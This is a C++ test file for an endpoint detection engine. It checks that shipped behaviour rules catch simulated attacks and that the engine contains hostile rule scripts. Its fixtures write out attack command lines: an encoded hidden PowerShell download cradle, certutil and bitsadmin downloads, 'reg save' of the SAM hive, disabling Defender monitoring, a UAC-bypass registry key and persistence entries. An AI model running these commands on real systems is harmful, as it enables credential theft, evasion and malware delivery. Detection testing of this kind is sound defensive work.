// The rules that ship and the hostile ones, as they lie in fixtures/content, in one engine.
#include <fmt/format.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <filesystem>
#include <set>

#include "base/file.h"
#include "endpoint/behavior/rule_fixture.h"
#include "endpoint/behavior/rules.h"
#include "host/event_import.h"
#include "support/event_logs.h"

namespace firebreak::endpoint::behavior {
namespace {

namespace fs = std::filesystem;
using host::Event;
using host::EventKind;
using testing::Contains;
using testing::IsEmpty;
using testing::Not;
using testing::UnorderedElementsAreArray;

using Sources = std::map<std::string, std::string>;
using Events = std::vector<Event>;

const fs::path kShipped = test::fixtures_dir() / "content/good/Behavior/2026-03-02";
const fs::path kProduct = test::fixtures_dir() / "content/good/ProductRulesFeed/2026-03-02";
const fs::path kHostile = test::fixtures_dir() / "content/malicious/Behavior";

std::string text_of(const fs::path& file) {
    const auto bytes = base::read_file(file, 1 << 20);
    EXPECT_TRUE(bytes.ok()) << file;
    return bytes.ok() ? std::string(bytes->begin(), bytes->end()) : "";
}

Sources sources_of(const fs::path& folder) {
    Sources sources;
    for (const auto& entry : fs::directory_iterator(folder)) {
        if (entry.path().extension() == ".lua") {
            sources[entry.path().filename().string()] = text_of(entry.path());
        }
    }
    return sources;
}

// Rules of Behavior above the ProductRules that ship.
LoadReply load_above_product(Engine& engine, const Sources& behavior) {
    const LoadReply product = load(engine, sources_of(kProduct), RuleFeed::kProductRules);
    EXPECT_EQ(product.code, base::Code::kNone) << product.message;
    return load(engine, behavior);
}

// --- Each rule that ships ------------------------------------------------------------------------

constexpr auto kCmd = "C:\\Windows\\System32\\cmd.exe";
constexpr auto kExplorer = "C:\\Windows\\explorer.exe";
constexpr auto kPowerShell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
constexpr auto kNet = "C:\\Windows\\System32\\net.exe";
constexpr auto kReg = "C:\\Windows\\System32\\reg.exe";
constexpr auto kSchtasks = "C:\\Windows\\System32\\schtasks.exe";
constexpr auto kNetsh = "C:\\Windows\\System32\\netsh.exe";
constexpr auto kWmi = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe";
constexpr auto kInstalled = "C:\\Program Files\\Example\\tool.exe";
constexpr auto kDropped = "C:\\Users\\a\\Downloads\\tool.exe";
constexpr auto kPerson = "LAB\\a";
constexpr auto kService = "NT AUTHORITY\\SYSTEM";

Event start(const char* image, const char* command_line, const char* parent_image = kExplorer,
            uint32_t process = 7, const char* user = kPerson) {
    return event_of(EventKind::kProcessStart, process,
                    {{"image", image},
                     {"command_line", command_line},
                     {"parent_image", parent_image},
                     {"parent", uint64_t{5}},
                     {"user", user}});
}
Event loads(const char* image, const char* path) {
    return event_of(EventKind::kImageLoad, 7,
                    {{"image", image},
                     {"path", path},
                     {"signed", uint64_t{1}},
                     {"signer", "Microsoft Windows"}});
}
Event connects(const char* image, uint64_t port, uint64_t outbound = 1) {
    return event_of(EventKind::kNetworkConnect, 7,
                    {{"image", image},
                     {"protocol", "tcp"},
                     {"outbound", outbound},
                     {"remote_address", "192.0.2.7"},
                     {"local_port", uint64_t{8080}},
                     {"remote_port", port}});
}
Event opens(const char* image, const char* target, uint64_t access, const char* trace) {
    return event_of(EventKind::kProcessAccess, 7,
                    {{"image", image},
                     {"target", uint64_t{3}},
                     {"target_image", target},
                     {"granted_access", access},
                     {"call_trace", trace}});
}
Event sets(const char* image, const char* key, const char* value, const char* data) {
    return event_of(EventKind::kRegistrySet, 7,
                    {{"image", image}, {"key", key}, {"value_name", value}, {"data", data}});
}
Event creates(const char* image, const char* path, uint32_t process = 5) {
    return event_of(EventKind::kFileCreate, process, {{"image", image}, {"path", path}});
}
Event runs(const char* text, const char* host = "powershell.exe") {
    return event_of(EventKind::kScript, 7,
                    {{"source", "script_block"}, {"text", text}, {"host_application", host}});
}
Event thread(const char* image, const char* module, const char* function) {
    return event_of(EventKind::kRemoteThread, 7,
                    {{"image", image},
                     {"target", uint64_t{3}},
                     {"target_image", "C:\\Windows\\System32\\notepad.exe"},
                     {"start_module", module},
                     {"start_function", function}});
}
Event installs(const char* name, const char* path) {
    return event_of(EventKind::kServiceInstall, 0, {{"name", name}, {"path", path}});
}
Event pipe(const char* name, const char* image, const char* user, const char* from) {
    return event_of(EventKind::kPipe, 7,
                    {{"name", name},
                     {"image", image},
                     {"user", user},
                     {"source_address", from},
                     {"action", "create"}});
}
Events all(std::initializer_list<Events> parts) {
    Events together;
    for (const Events& part : parts) {
        together.insert(together.end(), part.begin(), part.end());
    }
    return together;
}
Events stealer(const char* image) {
    return {loads(image, "C:\\Windows\\System32\\samlib.dll"),
            loads(image, "C:\\Windows\\System32\\cryptdll.dll"),
            loads(image, "C:\\Windows\\System32\\WinSCard.dll"),
            loads(image, "C:\\Windows\\System32\\hid.dll")};
}

// What a rule must find, and what looks like it and is none.
struct Case {
    const char* rule;
    Events found, passed;
};

constexpr auto kLsass = "C:\\Windows\\System32\\lsass.exe";
constexpr auto kPlainTrace = "C:\\Windows\\SYSTEM32\\ntdll.dll+1|C:\\Windows\\System32\\a.dll+2";
constexpr auto kDirectTrace = "C:\\Users\\a\\Downloads\\tool.exe+1|C:\\Windows\\ntdll.dll+2";
// "IEX (New-Object Net.WebClient)", and "Get-Date".
constexpr auto kEncodedAttack =
    "powershell -w hidden -enc "
    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA";

std::vector<Case> cases_of_credentials() {
    return {
        {"lsass-memory",
         {opens(kDropped, kLsass, 0x1010, kPlainTrace)},
         {opens(kInstalled, kLsass, 0x1010, kPlainTrace), opens(kDropped, kLsass, 0x400, "a"),
          opens(kWmi, kLsass, 0x1410, kPlainTrace), opens(kDropped, kCmd, 0x1010, kPlainTrace)}},
        {"credential-modules", stealer(kDropped), stealer(kInstalled)},
        {"dcsync", all({{connects(kDropped, 135)}, stealer(kDropped), {connects(kDropped, 49674)}}),
         all({{connects(kDropped, 135), connects(kDropped, 49674)}, stealer(kInstalled)})},
        {"registry-hives",
         {start(kReg, "reg save HKLM\\SAM C:\\temp\\x")},
         {start(kReg, "reg query HKLM\\SAM"), start(kReg, "reg save HKLM\\SOFTWARE\\A x")}},
        {"vault-credentials",
         {loads(kPowerShell, "C:\\Windows\\System32\\vaultcli.dll")},
         {loads(kInstalled, "C:\\Windows\\System32\\vaultcli.dll")}},
        {"credential-prompt",
         {loads(kPowerShell, "C:\\Windows\\System32\\credui.dll")},
         {loads(kExplorer, "C:\\Windows\\System32\\credui.dll")}},
    };
}

std::vector<Case> cases_of_evasion() {
    constexpr auto kInstallUtil =
        "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe";
    constexpr auto kCmstp = "C:\\Windows\\System32\\cmstp.exe";
    const auto parent = [](const char* image) { return start(image, image, kExplorer, 5); };
    return {
        {"bits-job",
         {start("C:\\Windows\\System32\\bitsadmin.exe", "bitsadmin /transfer a http://b c")},
         {start("C:\\Windows\\System32\\bitsadmin.exe", "bitsadmin /list")}},
        {"installutil-proxy",
         {start(kInstallUtil, "InstallUtil.exe /logfile= /u C:\\ProgramData\\a.dll", kCmd)},
         {start(kInstallUtil, "InstallUtil.exe \"C:\\Program Files\\Example\\service.exe\"")}},
        {"cmstp-proxy",
         {start(kCmstp, "cmstp.exe /s /ns C:\\Users\\a\\x.inf")},
         {start(kCmstp, "cmstp.exe \"C:\\Program Files\\Vpn\\company.inf\"")}},
        {"firewall-change",
         {start(kNetsh, "netsh advfirewall firewall add rule name=a dir=in action=allow")},
         {start(kNetsh, "netsh advfirewall show allprofiles"),
          start(kNetsh,
                "netsh advfirewall firewall add rule action=allow "
                "program=\"C:\\Program Files\\Example\\a.exe\"")}},
        {"process-tampering",
         {parent(kDropped), creates(kDropped, "C:\\Users\\a\\b.exe"),
          start("C:\\Users\\a\\b.exe", "b", kDropped),
          loads("C:\\Users\\a\\b.exe", "C:\\Users\\a\\b.exe")},
         {parent(kDropped), start("C:\\Users\\a\\b.exe", "b", kDropped),
          loads("C:\\Users\\a\\b.exe", "C:\\Users\\a\\b.exe")}},
        {"remote-thread",
         {thread(kInstalled, "-", "-")},
         {thread(kInstalled, "C:\\Windows\\System32\\ntdll.dll", "EtwpNotificationThread"),
          thread("C:\\Windows\\System32\\csrss.exe", "-", "-")}},
        {"uac-bypass",
         {sets(kReg, "HKU\\S-1-5-21\\Software\\Classes\\ms-settings\\shell\\open\\command", "",
               "x")},
         {sets(kReg, "HKLM\\Software\\Classes\\ms-settings\\shell\\open\\command", "", "x")}},
        {"defence-tampering",
         {runs("Set-MpPreference -DisableRealtimeMonitoring $true")},
         {runs("Get-MpPreference")}},
        {"log-cleared",
         {event_of(EventKind::kLogCleared, 0, {{"log", "Security"}})},
         {start("C:\\Windows\\System32\\wevtutil.exe", "wevtutil qe Security")}},
    };
}

std::vector<Case> cases_of_persistence() {
    constexpr auto kRun = "HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Run";
    constexpr auto kLogon = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon";
    return {
        {"run-key",
         {sets(kExplorer, kRun, "a", "powershell -w hidden -c x"),
          sets(kReg, kRun, "b", "C:\\Users\\a\\b.exe")},
         {sets(kInstalled, kRun, "a", "\"C:\\Program Files\\Example\\tool.exe\" /tray"),
          sets(kDropped, kRun, "b", kDropped)}},
        {"logon-script",
         {sets(kReg, "HKU\\S-1-5-21\\Environment", "UserInitMprLogonScript", "C:\\a.bat")},
         {sets(kReg, "HKU\\S-1-5-21\\Environment", "Path", "C:\\a")}},
        {"winlogon-helper",
         {sets(kReg, kLogon, "Shell", "explorer.exe, C:\\a.exe")},
         {sets(kReg, kLogon, "Shell", "explorer.exe")}},
        {"service-install",
         {installs("a", "%COMSPEC% /c echo")},
         {installs("a", "\"C:\\Program Files\\Example\\service.exe\" -k")}},
        {"scheduled-task",
         {start(kSchtasks, "schtasks /create /tn a /tr \"powershell -c x\" /sc daily")},
         {start(kSchtasks, "schtasks /create /tn a /tr C:\\Windows\\defrag.exe /sc daily"),
          start(kSchtasks, "schtasks /query")}},
    };
}

std::vector<Case> cases_of_movement() {
    constexpr auto kAutomation =
        "C:\\Windows\\assembly\\Automation\\System.Management.Automation.ni.dll";
    return {
        {"psexec-service",
         {start(kCmd, "cmd", "C:\\Windows\\PSEXESVC.exe")},
         {start(kCmd, "cmd", "C:\\Windows\\System32\\services.exe")}},
        {"remote-service-control",
         {pipe("\\svcctl", "System", kPerson, "192.0.2.9")},
         {pipe("\\svcctl", "System", "LAB\\SERVER$", "192.0.2.9"),
          pipe("\\svcctl", "System", kPerson, "127.0.0.1")}},
        {"remote-executable-copy",
         {creates("System", "C:\\ProgramData\\a.exe")},
         {creates("System", "C:\\a.etl"), creates(kExplorer, "C:\\ProgramData\\a.exe")}},
        {"winrm-client", {connects(kDropped, 5985)}, {connects(kPowerShell, 5985)}},
        {"wmi-child",
         {start("C:\\Windows\\System32\\whoami.exe", "whoami", kWmi)},
         {start("C:\\Windows\\System32\\whoami.exe", "whoami", kWmi, 7, kService),
          start("C:\\Windows\\System32\\whoami.exe", "whoami", kCmd)}},
        {"unmanaged-powershell", {loads(kDropped, kAutomation)}, {loads(kPowerShell, kAutomation)}},
    };
}

std::vector<Case> cases_of_execution() {
    constexpr auto kCertutil = "C:\\Windows\\System32\\certutil.exe";
    constexpr auto kWord = "C:\\Program Files\\Office\\WINWORD.EXE";
    return {
        {"encoded-command",
         {start(kPowerShell, kEncodedAttack)},
         {start(kPowerShell, "powershell -ExecutionPolicy Bypass -File a.ps1"),
          start(kPowerShell, "powershell -e")}},
        {"lolbin-download",
         {start(kCertutil, "certutil -urlcache -f http://192.0.2.1/a.exe a.exe")},
         {start(kCertutil, "certutil -urlcache http://192.0.2.1/root.crl"),
          start(kCertutil, "certutil -dump a.cer")}},
        {"office-child", {start(kCmd, "cmd /c x", kWord)}, {start(kInstalled, "tool", kWord)}},
        {"script-listener", {runs("$l = New-Object System.Net.HttpListener")}, {runs("Get-Date")}},
    };
}

std::vector<Case> cases_of_discovery() {
    const auto in = [](const char* image) { return start(image, image, kCmd); };
    return {
        {"ad-enumeration", {connects(kDropped, 389)}, {connects(kInstalled, 389)}},
        {"account-discovery",
         {start(kNet, "net localgroup administrators", kPowerShell)},
         {start(kNet, "net localgroup administrators", kCmd), start(kNet, "net use", kPowerShell)}},
        {"discovery-burst",
         {start(kCmd, "cmd", kExplorer, 5), in("C:\\Windows\\whoami.exe"),
          in("C:\\Windows\\ipconfig.exe"), in("C:\\Windows\\systeminfo.exe"),
          in("C:\\Windows\\tasklist.exe")},
         {start(kCmd, "cmd", kExplorer, 5), in("C:\\Windows\\whoami.exe"),
          in("C:\\Windows\\whoami.exe"), in("C:\\Windows\\ipconfig.exe"),
          in("C:\\Windows\\ipconfig.exe")}},
        {"registry-query",
         {start(kReg, "reg query \"HKLM\\Software\\Microsoft\\Internet Explorer\" /v Version")},
         {start(kReg, "reg query HKCU\\Software\\Example")}},
    };
}

std::vector<Case> cases() {
    std::vector<Case> together;
    for (auto& part : {cases_of_credentials(), cases_of_evasion(), cases_of_persistence(),
                       cases_of_movement(), cases_of_execution(), cases_of_discovery()}) {
        together.insert(together.end(), part.begin(), part.end());
    }
    return together;
}

// Which rules detect something in these events. None may fail.
std::set<std::string> detecting(const Events& events) {
    const auto engine = new_engine({.handler = std::chrono::seconds(5)});
    const LoadReply loaded = load_above_product(*engine, sources_of(kShipped));
    EXPECT_EQ(loaded.code, base::Code::kNone) << loaded.file << ": " << loaded.message;
    const EventReply reply = engine->handle(log_of(events), true);
    for (const RuleNote& note : reply.notes) {
        ADD_FAILURE() << note.rule << ": " << note.message;
    }
    std::set<std::string> rules;
    for (const Detection& detection : reply.detections) {
        rules.insert(detection.rule);
    }
    return rules;
}

TEST(ShippedRules, FindWhatTheyAreForAndPassWhatLooksLikeIt) {
    for (const Case& one : cases()) {
        EXPECT_THAT(detecting(one.found), Contains(one.rule));
        EXPECT_THAT(detecting(one.passed), Not(Contains(one.rule)));
    }
}

TEST(ShippedRules, AreNamedForTheirFilesAndEachHasItsCases) {
    const auto engine = new_engine();
    ASSERT_EQ(load_above_product(*engine, sources_of(kShipped)).code, base::Code::kNone);
    std::vector<std::string> rules, of_cases;
    for (const RuleCost& rule : engine->costs().rules) {
        rules.push_back(rule.rule);
    }
    for (const auto& [folder, sources] :
         {std::pair{kProduct, sources_of(kProduct)}, {kShipped, sources_of(kShipped)}}) {
        for (const auto& [file, source] : sources) {
            EXPECT_THAT(rules, Contains(fs::path(file).stem().string())) << folder;
            if (folder == kShipped) {
                of_cases.push_back(fs::path(file).stem().string());
            }
        }
    }
    std::vector<std::string> tried;
    for (const Case& one : cases()) {
        tried.emplace_back(one.rule);
    }
    EXPECT_THAT(tried, UnorderedElementsAreArray(of_cases));
}

// Without the functions that they call, they are refused while loading, and not event by event.
TEST(ShippedRules, AreRefusedWithoutProductRules) {
    const auto engine = new_engine();
    const LoadReply reply = load(*engine, sources_of(kShipped));
    EXPECT_EQ(reply.code, base::Code::kRulesDoNotCompile);
    EXPECT_GT(reply.line, 0u) << reply.message;
}

// --- Hostile rules beside honest ones ------------------------------------------------------------

enum class Hostile { kRefused, kStopped, kFails, kHarmless };

const std::map<std::string, Hostile>& contained() {
    using enum Hostile;
    static const std::map<std::string, Hostile> rules = {
        {"loop", kStopped},
        {"loop-in-pcall", kStopped},
        {"tail-calls", kStopped},
        {"mutual-recursion", kStopped},
        {"loop-at-load", kRefused},
        {"slow-like", kStopped},
        {"ten-million-calls", kStopped},
        {"table-bomb", kStopped},
        {"string-doubling", kStopped},
        {"string-rep", kStopped},
        {"join-bomb", kFails},
        {"concatenation", kStopped},
        {"state-hoard", kStopped},
        {"recursion", kFails},
        {"recursion-in-pcall", kStopped},
        {"bytecode", kRefused},
        {"ffi", kRefused},
        {"libraries", kHarmless},
        {"loadstring", kFails},
        {"environments", kFails},
        {"metatables", kHarmless},
        {"provide", kRefused},
        {"core-arguments", kHarmless},
        {"shared-tables", kHarmless},
        {"globals", kHarmless},
        {"change-event", kHarmless},
        {"change-process", kHarmless},
        {"stale-event", kFails},
        {"event-of-another-kind", kHarmless},
        {"ten-thousand-tags", kFails},
        {"ten-thousand-states", kHarmless},
        {"huge-evidence", kHarmless},
        {"too-much-evidence", kFails},
        {"too-many-detections", kFails},
        {"too-many-handlers", kRefused},
        {"scan-chain", kHarmless},
        {"late-rule", kFails},
        {"field-mismatch", kRefused},
        {"wildcard-mismatch", kRefused},
        {"field-mismatch-in-handler", kFails},
        {"nil-index", kFails},
        {"blind-sensor", kRefused},
        {"late-sensor", kRefused},
        {"drop-all", kRefused},
        {"tag-storm", kHarmless},
        {"event-storm", kHarmless},
        {"scan-storm", kHarmless},
        {"slow-find", kHarmless},
        {"filter-storm", kRefused},
    };
    return rules;
}

std::string honest(const std::string& id) {
    return "rule {id = '" + id + "'}\n" + R"(
        on("process_start", {image = "C:\\*"}, function(e)
            tag(e.process, "honest")
            detect {evidence = {image = e.image, name = text.file_name(e.image):lower(),
                                known = process(e.process).image, shell = core.is_shell(e.image)}}
        end)
        on("process_end", nil, function(e)
            detect {evidence = {tagged = has_tag(e.process, "honest")}}
        end))";
}

Events starts_and_ends() {
    Events events;
    for (uint32_t i = 1; i <= 60; ++i) {
        const char* image = i % 2 == 0 ? "C:\\rare.exe" : kCmd;
        events.push_back(start(image, "a", kExplorer, i));
        events.push_back(event_of(EventKind::kProcessEnd, i, {}));
    }
    return events;
}

struct Tried {
    LoadReply loaded;
    std::vector<Detection> of_honest;
    std::vector<RuleNote> notes;
    RuleCost cost;
};

// The rule, if there is one, between two honest ones. Memory and deadlines are those that ship,
// but for rules that are to end otherwise: they get time, however slow the machine.
Tried try_rule(const std::string& name, std::chrono::microseconds deadline) {
    const auto engine = new_engine({.handler = deadline});
    Sources sources = {{"a.lua", honest("honest-1")}, {"z.lua", honest("honest-2")}};
    if (!name.empty()) {
        sources[name + ".lua"] = text_of(kHostile / name / (name + ".lua"));
    }
    Tried tried;
    tried.loaded = load_above_product(*engine, sources);
    if (tried.loaded.code != base::Code::kNone) {
        return tried;
    }
    const EventReply reply = engine->handle(log_of(starts_and_ends()), true);
    tried.notes = reply.notes;
    for (const Detection& detection : reply.detections) {
        if (detection.rule.starts_with("honest")) {
            tried.of_honest.push_back(detection);
        }
    }
    for (const RuleCost& cost : engine->costs().rules) {
        if (cost.rule == name) {
            tried.cost = cost;
        }
    }
    return tried;
}

void check_end(const Tried& tried, Hostile end) {
    if (end == Hostile::kHarmless) {
        EXPECT_THAT(tried.notes, IsEmpty()) << tried.notes[0].message;
        EXPECT_FALSE(tried.cost.disabled);
        return;
    }
    EXPECT_TRUE(tried.cost.disabled);
    EXPECT_EQ(tried.cost.errors, end == Hostile::kStopped ? kMaxStops : kMaxErrors);
    for (const RuleNote& note : tried.notes) {
        EXPECT_THAT(note.rule, Not(testing::StartsWith("honest"))) << note.message;
        EXPECT_EQ(note.what == RuleNote::What::kError,
                  end == Hostile::kFails && note.what != RuleNote::What::kDisabled)
            << note.message;
    }
}

TEST(HostileRules, AreContainedAndHonestOnesSeeWhatTheyWouldSeeAlone) {
    constexpr std::chrono::microseconds kPatient = std::chrono::seconds(30);
    const Tried alone = try_rule("", kPatient);
    ASSERT_EQ(alone.of_honest.size(), 4 * 60u);
    for (const auto& [name, end] : contained()) {
        SCOPED_TRACE(name);
        const Tried tried = try_rule(name, end == Hostile::kStopped || end == Hostile::kRefused
                                               ? std::chrono::microseconds(EngineLimits{}.handler)
                                               : kPatient);
        if (end == Hostile::kRefused) {
            EXPECT_NE(tried.loaded.code, base::Code::kNone);
            EXPECT_EQ(tried.loaded.file, name + ".lua") << tried.loaded.message;
            continue;
        }
        ASSERT_EQ(tried.loaded.code, base::Code::kNone) << tried.loaded.message;
        EXPECT_EQ(tried.of_honest, alone.of_honest);
        check_end(tried, end);
    }
}

TEST(HostileRules, AreAllTried) {
    std::vector<std::string> known;
    for (const auto& [name, end] : contained()) {
        known.push_back(name);
    }
    std::vector<std::string> there;
    for (const auto& entry : fs::directory_iterator(kHostile)) {
        if (entry.is_directory()) {
            there.push_back(entry.path().filename().string());
        }
    }
    EXPECT_THAT(known, UnorderedElementsAreArray(there));
}

// --- Public event logs ---------------------------------------------------------------------------

// "T1197 bits-job": how many.
std::map<std::string, int> detections_in(const fs::path& file) {
    const auto imported = host::import_windows_events(test::unpacked(file));
    EXPECT_TRUE(imported.ok()) << imported.error().text();
    const auto engine = new_engine({.handler = std::chrono::seconds(5)});
    EXPECT_EQ(load_above_product(*engine, sources_of(kShipped)).code, base::Code::kNone);
    const EventReply reply = engine->handle(imported->events, true);
    for (const RuleNote& note : reply.notes) {
        ADD_FAILURE() << file << ": " << note.rule << ": " << note.message;
    }
    EXPECT_EQ(reply.left_out, 0u);
    std::map<std::string, int> found;
    for (const Detection& detection : reply.detections) {
        ++found[detection.technique + " " + detection.rule];
    }
    return found;
}

// Rules were written with the logs at even places in view, and without the others.
TEST(ShippedRulesCorpus, DetectionsInPublicLogsAreToldAndNoRuleFails) {
    const std::vector<fs::path> logs = test::event_logs();
    if (logs.empty()) {
        GTEST_SKIP() << "FIREBREAK_CORPUS has no security-datasets";
    }
    for (const size_t half : {0, 1}) {
        fmt::print("{}\n", half == 0 ? "in view when the rules were written:" : "held out:");
        std::map<std::string, int> by_technique;
        for (size_t i = half; i < logs.size(); i += 2) {
            fmt::print("  {}\n", logs[i].stem().string());
            for (const auto& [what, times] : detections_in(logs[i])) {
                fmt::print("    {} ({})\n", what, times);
                by_technique[what.substr(0, what.find(' '))] += times;
            }
        }
        for (const auto& [technique, times] : by_technique) {
            fmt::print("  {}: {}\n", technique, times);
        }
    }
}

}  // namespace
}  // namespace firebreak::endpoint::behavior
